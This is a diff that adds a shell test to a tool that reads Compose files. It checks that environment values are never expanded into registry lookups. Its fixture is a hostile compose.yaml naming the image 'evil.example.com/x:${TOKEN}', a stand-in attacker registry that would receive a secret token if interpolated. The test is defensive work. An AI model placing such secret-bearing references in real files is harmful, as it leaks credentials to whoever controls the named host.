@@ -411,4 +411,25 @@ if [ -e $facts ] && LC_ALL=C grep -q "$(printf '[\033\007]')" $facts; then
 	fault "an escape sequence is in $facts"
 fi
 
+name="values of variables"
+mkdir hidden alone && cp bin/skopeo alone/
+# shellcheck disable=SC2016 # variables of Compose
+printf 'name: "${TOKEN}"\nservices:\n  web: {build: .}\n  app: {image: "evil.example.com/x:${TOKEN}"}\n' >hidden/compose.yaml
+echo 'learn: {pull: true, from: skopeo}' >hidden/policy.yaml
+TOKEN=v4lue && export TOKEN
+# A registry hears what a repository names: a value of the environment in it would be told to whoever wrote the file.
+for words in "" --pull --from=skopeo "--pull --from=docker" --config=hidden/policy.yaml; do
+	: >fake/calls
+	# shellcheck disable=SC2086 # words
+	run 2 learn $words hidden/compose.yaml
+	lacks out v4lue
+	lacks err v4lue
+	tells "evil.example.com/x:\${TOKEN}: no engine here has it"
+	! grep -v '^image inspect' fake/calls | grep v4lue || fault "$ran: a registry is told a value"
+done
+: >fake/calls
+# shellcheck disable=SC2123 # no engine is in it
+PATH=$work/alone run 2 learn hidden/compose.yaml
+[ ! -s fake/calls ] || fault "$ran: a registry is told a value where no engine is"
+
 finish "runs"
